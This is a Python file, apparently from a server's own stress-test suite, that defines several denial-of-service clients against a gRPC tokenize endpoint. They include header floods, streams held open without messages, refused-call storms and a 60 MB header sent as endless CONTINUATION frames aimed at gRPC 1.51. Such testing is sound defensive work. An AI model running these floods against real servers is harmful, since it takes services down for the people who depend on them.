"""Calls by gRPC of which the server has most work before it reads a message: many of them, or their metadata."""

from __future__ import annotations

from integration import http2
from integration.http2 import frame

from hostile.messages import LANGUAGE_MODEL, TOKENIZE, field, model, text
from hostile.target import Client, Target, main

MESSAGE = model(LANGUAGE_MODEL) + field(2, text("a"))


def flood(**fields: str) -> Client:
    async def client(target: Target) -> None:
        headers = target.call_headers(TOKENIZE, **fields)
        async with target.by_grpc() as connection:
            while True:
                await connection.begin(headers, MESSAGE)
                await connection.until(lambda: connection.open < 100)

    return client


async def connect_again(target: Target) -> None:
    async with target.by_grpc() as connection:
        await connection.begin(target.call_headers(TOKENIZE), MESSAGE)
        await connection.until(lambda: connection.open == 0)


async def calls_without_message(target: Target) -> None:
    """As many calls as a connection may have open, of whose messages nothing comes."""
    headers = target.call_headers(TOKENIZE)
    async with target.by_grpc() as connection:
        for _ in range(1_000):
            await connection.begin(headers, message=None)
        await connection.until(lambda: False)


async def refused_calls(target: Target) -> None:
    """More calls than a client's share has memory for. gRPC keeps a refused call until its status is written."""
    headers = target.call_headers(TOKENIZE)
    message = MESSAGE + field(15, b"x" * 900)
    async with target.by_grpc() as connection:
        while True:
            for _ in range(1_000):
                await connection.begin(headers, message)
            await connection.until(lambda: connection.open == 0)


async def small_calls(target: Target) -> None:
    """Few at once on each connection, and many on all."""
    headers = target.call_headers(TOKENIZE)
    async with target.by_grpc() as connection:
        while True:
            for _ in range(20):
                await connection.begin(headers, MESSAGE)
            await connection.until(lambda: connection.open == 0)


async def header_without_end(target: Target) -> None:
    """The value of a field of 60 MB, which gRPC 1.51 parses again with each of its parts."""
    async with target.by_grpc() as connection:
        await connection.send(frame(http2.HEADERS, 0, 1, b"\x00\x01x" + b"\x7f\x81\xce\xcd\x1c"))
        for _ in range(4_000):
            await connection.send(frame(http2.CONTINUATION, 0, 1, bytes(16_384)))
        await connection.until(lambda: False)


CLIENTS = {
    "header fields": (4, flood(**{f"x-{number}": "v" * 100 for number in range(100)})),
    "beyond the limit": (4, flood(**{f"x-{number}": "v" * 100 for number in range(400)})),
    "connections": (8, connect_again),
    "calls without message": (80, calls_without_message),
    "refused calls": (100, refused_calls),
    "small calls": (200, small_calls),
    "headers without end": (40, header_without_end),
}

if __name__ == "__main__":
    main(__doc__, CLIENTS)
